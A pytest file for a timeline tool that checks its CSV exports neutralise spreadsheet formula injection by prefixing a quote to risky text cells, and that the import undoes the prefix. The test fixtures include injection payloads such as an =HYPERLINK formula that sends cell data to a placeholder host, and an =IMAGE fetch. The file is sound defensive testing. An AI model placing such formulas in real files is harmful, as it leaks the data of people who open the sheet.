"""Spreadsheet-safe CSV: no exported text cell can start a formula, and the import undoes it.

Journalists open exports in a spreadsheet, which runs a cell beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(``=HYPERLINK(…)``, ``=IMAGE(…)`` fetch the moment the sheet opens). ``csv`` and
``timelinejs-csv`` write such a text cell with a ``'`` first, as OWASP advises
(CWE-1236); numbers and ids stay as they are; ``--raw-cells`` turns it off; the
dataset layouts stay raw. The spreadsheet import takes the ``'`` off again.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fixtures.rel_support import run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chronicle import queries
from chronicle.exporters.text import spreadsheet_safe, spreadsheet_value
from chronicle.importers.spreadsheet import import_csv
from chronicle.store import Store

RISKY = ["=HYPERLINK(\"http://example.invalid/?\"&A1)", "+1+2", "-2+3", "@SUM(A1:A2)",
         "\tpadded", "=IMAGE(\"http://example.invalid/x.png\")", "'=already quoted"]  # fmt: skip
FIRST = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store_path(tmp_path: Path) -> Path:
    path = tmp_path / "store.db"
    with Store.open(path, create=True) as store:
        store.append([
            {"id": "s", "type": "source.registered", "author": "t",
             "data": {"source_id": "src:a", "title": RISKY[0], "kind": "news"}},
            {"id": "e", "type": "event.asserted", "author": "t",
             "data": {"event_id": "ev:a", "title": RISKY[5], "when": "2024-07-25",
                      "actors": [], "tags": ["@tag"], "summary": RISKY[2],
                      "citations": [{"source": "src:a", "quote": "=1"}]}},
            {"id": "c", "type": "claim.asserted", "author": "t",
             "data": {"claim_id": "cl:a", "event_id": "ev:a", "claimant": "src:a",
                      "property": "killed", "low": 3, "best": 5, "value_text": "-dozens",
                      "source": "src:a"}},
        ])  # fmt: skip
    return path


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def _starts_a_formula(value: str) -> bool:
    return value.startswith(FIRST) and spreadsheet_safe(value) != value


@pytest.mark.parametrize("what", ["timeline", "events", "sources", "claims", "history", "log"])
def test_csv_cells_never_start_a_formula(store_path: Path, what: str) -> None:
    outcome = run_cli(store_path, "export", what, "--format", "csv")
    assert outcome.code == 0, outcome.err
    cells = _cells(outcome.out)
    assert not [c for c in cells if _starts_a_formula(c)]
    raw = _cells(run_cli(store_path, "export", what, "--format", "csv", "--raw-cells").out)
    assert [spreadsheet_value(c) for c in cells] == raw  # the only change is the prefix
    if what in ("timeline", "events", "sources"):
        assert any(_starts_a_formula(c) for c in raw)


def test_timelinejs_csv_is_safe_for_a_google_sheet(store_path: Path) -> None:
    out = run_cli(store_path, "export", "timeline", "--format", "timelinejs-csv").out
    cells = _cells(out)
    assert "'" + RISKY[5] in cells  # the headline
    assert not [c for c in cells if _starts_a_formula(c)]
    raw = _cells(run_cli(store_path, "export", "timeline", "--format", "timelinejs-csv",
                         "--raw-cells").out)  # fmt: skip
    assert RISKY[5] in raw


def test_numbers_and_ids_stay(store_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run_cli(store_path, "export", "claims", "--format",
                                                   "csv").out)))  # fmt: skip
    assert rows[0]["claim_id"] == "cl:a" and rows[0]["low"] == "3" and rows[0]["best"] == "5"
    assert rows[0]["value_text"] == "'-dozens"
    assert spreadsheet_safe("-5") == "-5" and spreadsheet_safe("+3.25") == "+3.25"
    assert spreadsheet_safe("-1e3") == "-1e3" and spreadsheet_safe("-5 dead") == "'-5 dead"


@pytest.mark.parametrize("fmt", ["acled-csv", "ucdp-csv"])
def test_the_dataset_layouts_stay_raw(store_path: Path, fmt: str) -> None:
    outcome = run_cli(store_path, "export", "timeline", "--format", fmt)
    assert outcome.code == 0, outcome.err
    assert not any(c.startswith("'") for c in _cells(outcome.out))


def test_the_read_commands_csv_is_the_exports(store_path: Path) -> None:
    timeline = run_cli(store_path, "timeline", "--format", "csv").out
    assert timeline == run_cli(store_path, "export", "timeline", "--format", "csv").out
    assert "'" + RISKY[5] in _cells(timeline)


@given(st.text())
def test_the_prefix_comes_off_again_whatever_the_text(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert spreadsheet_value(safe) == text
    assert safe == text or safe == "'" + text
    assert not (safe.startswith(FIRST) and spreadsheet_safe(safe) != safe)


TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp")), max_size=30
)
OPENING = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "-5", "+1"])


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.tuples(OPENING, TEXT).map("".join).filter(lambda t: t.strip()),
    st.tuples(OPENING, TEXT).map("".join),
    st.lists(st.tuples(OPENING, st.from_regex(r"[a-z]{1,8}", fullmatch=True)).map("".join),
             max_size=3, unique=True),
)  # fmt: skip
def test_a_round_trip_through_the_spreadsheet_import_keeps_every_value(
    tmp_path_factory: pytest.TempPathFactory, title: str, summary: str, tags: list[str]
) -> None:
    """Exported as CSV (made safe), imported into a new store: the same title, summary, tags."""
    tags = [t for t in tags if t.strip() and "," not in t and ";" not in t]
    folder = tmp_path_factory.mktemp("round")
    event = {"event_id": "ev:r", "title": title, "when": "2024-07-25", "actors": [],
             "tags": tags, "summary": summary, "citations": []}  # fmt: skip
    first = folder / "first.db"
    with Store.open(first, create=True) as store:
        store.append([{"id": "r", "type": "event.asserted", "author": "t", "data": event}])
    sheet = folder / "sheet.csv"
    assert run_cli(first, "export", "timeline", "--format", "csv", "-o", str(sheet)).code == 0
    with Store.open(folder / "second.db", create=True) as store:
        with sheet.open(encoding="utf-8-sig", newline="") as handle:
            import_csv(store, handle, name=sheet.name, author="t")
        (row,) = queries.timeline(store.conn)
    assert row["title"] == title.strip()
    assert row["summary"] == summary.strip()
    assert json.loads(row["tags"]) == [t.strip() for t in tags]
